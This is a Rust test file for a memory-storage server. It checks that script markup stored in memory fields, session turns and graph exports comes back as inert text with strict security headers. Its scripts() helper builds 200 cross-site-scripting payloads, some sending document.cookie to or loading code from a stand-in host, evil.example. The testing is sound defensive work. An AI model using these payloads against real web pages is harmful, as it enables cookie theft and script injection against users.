//! Script in stored texts: it stays text wherever it comes back.

use serde_json::json;

use crate::harness::Home;
use crate::served::Served;

#[test]
fn script_in_every_stored_field_comes_back_as_data() {
    let home = Home::live();
    let server = Served::start(&home);
    let evil = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'`\u{2028}\u{202e}";
    let made = server.post(
        "/api/v1/memories",
        &json!({ "content": evil, "tags": ["<b>tag</b>"], "domain": "<i>area</i>", "label": evil,
            "because": ["<u>why</u> it is so"], "triggers": ["<s>run</s>"], "slot": "<a>|<b>|<c>" }),
    );
    let id = made["memory"]["id"].as_str().unwrap().to_owned();
    let graph = format!("/api/v1/graph?focus={id}");
    let (one, why, history) = (
        format!("/api/v1/memories/{id}"),
        format!("/api/v1/memories/{id}/why"),
        format!("/api/v1/memories/{id}/history"),
    );
    for path in [
        "/api/v1/memories",
        "/api/v1/log",
        &graph,
        &one,
        &why,
        &history,
        "/api/v1/memories/%3Cscript%3E",
        "/%3Cscript%3E",
        "/api/v1/export?format=markdown",
    ] {
        let heard = server.ask("GET", path, &[], None);
        let kind = heard.header("content-type").unwrap_or_default().to_owned();
        assert!(!kind.contains("html") || !heard.body.contains("<script>"), "{path}: {heard:?}");
        assert_eq!(heard.header("x-content-type-options"), Some("nosniff"), "{path}");
        let policy = heard.header("content-security-policy").expect("a policy");
        assert!(policy.contains("default-src 'none'") && !policy.contains("unsafe"), "{policy}");
        assert_eq!(heard.header("x-frame-options"), Some("DENY"), "{path}");
        assert_eq!(heard.header("referrer-policy"), Some("no-referrer"), "{path}");
        assert!(!heard.body.contains('\u{202e}'), "{path}");
    }
    assert_eq!(server.get(&one)["tags"], json!(["<b>tag</b>"]));
    for (format, end) in [("html", "</html>"), ("svg", "</svg>")] {
        let drawn = home.page(&["graph", "--format", format]);
        assert!(drawn.trim_end().ends_with(end), "{drawn}");
        assert!(!drawn.contains("<script") && !drawn.contains("<img"), "{drawn}");
    }
    let mermaid = home.page(&["graph", "--format", "mermaid"]);
    assert!(mermaid.starts_with("flowchart LR") && !mermaid.contains("<script"), "{mermaid}");
}

/// Two hundred texts that a careless page would run.
fn scripts() -> Vec<String> {
    let acts = [
        "alert(1)",
        "fetch('//evil.example/'+document.cookie)",
        "eval(name)",
        "import('//evil.example')",
    ];
    let forms = [
        "<script>{}</script>",
        "<ScRiPt>{}</sCrIpT>",
        "<script src=//evil.example/x.js>{}</script>",
        "<img src=x onerror={}>",
        "<svg onload={}>",
        "<svg><script>{}</script></svg>",
        "<body onload={}>",
        "<iframe src=\"javascript:{}\">",
        "<a href=\"javascript:{}\">x</a>",
        "<input autofocus onfocus={}>",
        "<details open ontoggle={}>",
        "<video><source onerror={}>",
        "<marquee onstart={}>",
        "<math><mtext><img src=x onerror={}></mtext></math>",
        "<style>@import'{}'</style>",
        "<link rel=stylesheet href=\"{}\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
        "<object data=\"{}\">",
        "<embed src=\"{}\">",
        "<form action=\"javascript:{}\"><button>x</button></form>",
        "\"><script>{}</script>",
        "'><script>{}</script>",
        "</title><script>{}</script>",
        "</textarea><script>{}</script>",
        "</style><script>{}</script>",
        "<!--><script>{}</script>-->",
        "<![CDATA[<script>{}</script>]]>",
        "&lt;script&gt;{}&lt;/script&gt;",
        "<img src=x onerror=&#97;{}>",
        "<img/src=x/onerror={}>",
        "<<script>{}//<</script>",
        "<scr<script>ipt>{}</scr</script>ipt>",
        "`${{}}`",
        "{{constructor.constructor('{}')()}}",
        "<x onclick={}>x</x>",
        "<template><script>{}</script></template>",
        "<noscript><p title=\"</noscript><script>{}</script>\">",
        "<base href=\"javascript:{}//\">",
        "<button popovertarget=x onbeforetoggle={}>",
        "data:text/html,<script>{}</script>",
        "javascript:{}",
        "<table background=\"javascript:{}\">",
        "<div style=\"background:url(javascript:{})\">",
        "<svg><animate onbegin={} attributeName=x>",
        "<svg><a xlink:href=\"javascript:{}\"><text>x</text></a></svg>",
        "<audio src=x onerror={}>",
        "<select autofocus onfocus={}>",
        "<keygen autofocus onfocus={}>",
        "<isindex action=javascript:{}>",
        "<img src=\"x` `<script>{}</script>\"` `>",
    ];
    forms.iter().flat_map(|form| acts.map(|act| form.replace("{}", act))).collect()
}

#[test]
fn two_hundred_scripts_stay_text() {
    let home = Home::live();
    let scripts = scripts();
    assert_eq!(scripts.len(), 200);
    let turns = home.arg("turns.jsonl");
    let lines = scripts.iter().enumerate().map(|(at, text)| {
        let moment = format!("2026-03-02T10:{:02}:{:02}Z", at / 60, at % 60);
        json!({ "session": "s1", "at": moment, "speaker": "user", "text": text }).to_string()
    });
    std::fs::write(&turns, lines.collect::<Vec<_>>().join("\n")).unwrap();
    home.json(&["ingest", &turns]);
    let server = Served::start(&home);
    for (at, text) in scripts.iter().enumerate().step_by(10) {
        let body =
            json!({ "content": format!("text {at}: {text}"), "label": text, "tags": [text] });
        let made = server.ask("POST", "/api/v1/memories", &[], Some(&body));
        assert!([201, 400].contains(&made.status), "{made:?}");
    }
    let heard = server.ask("GET", "/api/v1/sessions/s1/turns?limit=500", &[], None);
    assert_eq!(heard.header("content-type"), Some("application/json"));
    assert_eq!(heard.header("x-content-type-options"), Some("nosniff"));
    let told = heard.json();
    assert_eq!(told["total"], 200);
    let same = told["items"].as_array().unwrap().iter().zip(&scripts);
    assert!(
        same.filter(|(turn, text)| turn["text"] == ***text).count() > 190,
        "the texts are other ones"
    );
    for format in ["html", "svg"] {
        let drawn = home.page(&["graph", "--format", format]);
        let tags: std::collections::BTreeSet<&str> = drawn
            .split('<')
            .skip(1)
            .map(|rest| rest.split(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or_default())
            .filter(|tag| !tag.is_empty())
            .collect();
        let ours = [
            "body", "code", "ellipse", "g", "h1", "h2", "html", "li", "line", "meta", "p", "rect",
            "small", "style", "svg", "text", "title", "ul",
        ];
        assert!(tags.iter().all(|tag| ours.contains(tag)), "{tags:?}");
    }
}
